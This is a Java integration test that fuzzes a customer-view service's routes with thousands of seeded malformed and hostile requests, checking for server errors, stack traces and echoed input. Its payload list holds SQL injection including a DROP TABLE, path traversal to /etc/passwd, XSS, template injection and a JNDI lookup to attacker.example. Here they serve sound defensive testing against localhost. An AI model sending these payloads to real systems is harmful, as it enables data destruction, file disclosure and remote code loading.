package dev.lethe.query.customerview;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/**
 * Ten thousand generated hostile requests against every route of the service: oversized and malformed bodies,
 * wrong types, injection strings, path traversal. None may fail with a 5xx, show a stack trace or repeat what it
 * was sent (which could be personal data). A fixed seed makes a failure reproducible.
 */
class HostileRequestsIT extends CustomerViewTestBase {

    private static final int REQUESTS = 10_000;
    private static final long SEED = 20261129L;
    private static final List<String> HOSTILE = List.of(
            "' OR '1'='1", "'; DROP TABLE query.customer_view; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
            "../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f", "..\\..\\windows\\win.ini",
            "<script>alert('canary')</script>", "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}",
            "\u0000", "%00", "\uFFFF\uFFFE", "\uD83D\uDE00", "Ω≈ç√∫", "null", "undefined", "NaN", "-1",
            "99999999999999999999999999", "1e309", "true", "[]", "{}", "\\", "%", "%%", "%ZZ", " ", "");
    private static final List<String> SEARCH_FIELDS = List.of("email", "phone", "source", "sourceCustomerId",
            "consentPurpose", "consentStatus", "status", "page", "size", "sort", "unknownField", "__proto__");

    private final Random random = new Random(SEED);

    @Test
    void noHostileRequestGetsA5xxAStackTraceOrItsOwnInputBack() throws Exception {
        String known = UUID.randomUUID().toString();
        publish(known, registered(known, "webshop", "w-" + known, "Fuzz Target", "fuzz-" + known + "@example.org", null));
        awaitStatus(known, 200);

        List<HttpRequest> requests = new ArrayList<>(REQUESTS);
        List<String> inputs = new ArrayList<>(REQUESTS);
        for (int i = 0; i < REQUESTS; i++) {
            String input = hostileText();
            inputs.add(input);
            requests.add(request(i % 9, input, known));
        }

        HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        Map<Integer, Integer> statuses = new ConcurrentHashMap<>();
        List<String> problems = new ArrayList<>();
        AtomicInteger sent = new AtomicInteger();
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<String>> answers = new ArrayList<>();
            for (int i = 0; i < REQUESTS; i++) {
                HttpRequest request = requests.get(i);
                String input = inputs.get(i);
                answers.add(pool.submit(() -> {
                    HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
                    sent.incrementAndGet();
                    statuses.merge(response.statusCode(), 1, Integer::sum);
                    return problem(request, input, response);
                }));
            }
            for (Future<String> answer : answers) {
                String problem = answer.get();
                if (problem != null && problems.size() < 20) {
                    problems.add(problem);
                }
            }
        } finally {
            pool.shutdownNow();
        }

        assertThat(sent).hasValue(REQUESTS);
        assertThat(problems).as("statuses %s", statuses).isEmpty();
        assertThat(statuses.keySet()).as("the fuzzing reached the handlers, not only one error path")
                .contains(200, 400, 404);
    }

    private String problem(HttpRequest request, String input, HttpResponse<String> response) {
        String body = response.body() == null ? "" : response.body();
        String where = request.method() + " " + request.uri().getRawPath() + " -> " + response.statusCode();
        if (response.statusCode() >= 500) {
            return where + ": server error";
        }
        if (body.contains("Exception") || body.contains("\tat ") || body.contains("at dev.lethe")
                || body.contains("at org.springframework")) {
            return where + ": stack trace or exception in the body";
        }
        if (input.strip().length() >= 6 && body.contains(input)) {
            return where + ": the input was echoed: " + body.substring(0, Math.min(200, body.length()));
        }
        return null;
    }

    /** One of nine kinds of request, each hostile in another way; the route set is every route of the service. */
    private HttpRequest request(int kind, String input, String known) {
        String segment = URLEncoder.encode(input, StandardCharsets.UTF_8).replace("+", "%20");
        return switch (kind) {
            case 0 -> hostileGet("/api/customers/" + (segment.isEmpty() ? "%20" : segment));
            case 1 -> hostilePost("/api/customers/search", searchBody(input));
            case 2 -> hostilePost("/api/customers/search", oversizedOrBroken(input));
            case 3 -> hostileGet("/api/customers/stats?" + segment + "=" + segment);
            case 4 -> hostileGet("/api/compliance/customers/" + pick(known, segment) + "/" + pick("history", "state", "export",
                    "erasure") + "?asOf=" + segment);
            case 5 -> hostileGet("/api/compliance/audit/" + pick("verify", "export", segment));
            case 6 -> hostilePost("/api/operations/projections/" + (segment.isEmpty() ? "none" : segment) + "/rebuild", input);
            case 7 -> hostileGet("/" + pick("api/operations/projections", "v3/api-docs", "actuator/health", "actuator/prometheus",
                    "api/" + segment, "..;/" + segment, "%2e%2e/%2e%2e/" + segment));
            default -> hostilePost("/api/customers/" + pick(known, segment), input);
        };
    }

    private String searchBody(String input) {
        String field = SEARCH_FIELDS.get(random.nextInt(SEARCH_FIELDS.size()));
        String value = switch (random.nextInt(6)) {
            case 0 -> quoted(input);
            case 1 -> String.valueOf(random.nextLong());
            case 2 -> "[" + quoted(input) + "," + random.nextInt() + "]";
            case 3 -> "{\"$ne\":" + quoted(input) + "}";
            case 4 -> random.nextBoolean() ? "true" : "null";
            default -> String.valueOf(random.nextDouble() * 1e12);
        };
        return "{\"" + field + "\":" + value + (random.nextBoolean() ? ",\"size\":" + random.nextInt() : "") + "}";
    }

    private String oversizedOrBroken(String input) {
        return switch (random.nextInt(5)) {
            case 0 -> "{\"email\":\"" + "a".repeat(1 + random.nextInt(512_000)) + "@example.org\"}";
            case 1 -> "{".repeat(1 + random.nextInt(5_000));
            case 2 -> "{\"email\":" + quoted(input);
            case 3 -> input;
            default -> "[" + quoted(input) + "]";
        };
    }

    private String hostileText() {
        String base = HOSTILE.get(random.nextInt(HOSTILE.size()));
        return switch (random.nextInt(4)) {
            case 0 -> base;
            case 1 -> base + base.repeat(random.nextInt(50));
            case 2 -> "x" + random.nextInt(1000) + base;
            default -> base + UUID.randomUUID();
        };
    }

    private String pick(String... options) {
        return options[random.nextInt(options.length)];
    }

    private static String quoted(String value) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            } else if (c < 0x20) {
                json.append(String.format("\\u%04x", (int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    private HttpRequest hostileGet(String path) {
        return builder(path).GET().build();
    }

    private HttpRequest hostilePost(String path, String body) {
        return builder(path).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body)).build();
    }

    private HttpRequest.Builder builder(String path) {
        return HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).timeout(Duration.ofSeconds(30));
    }
}
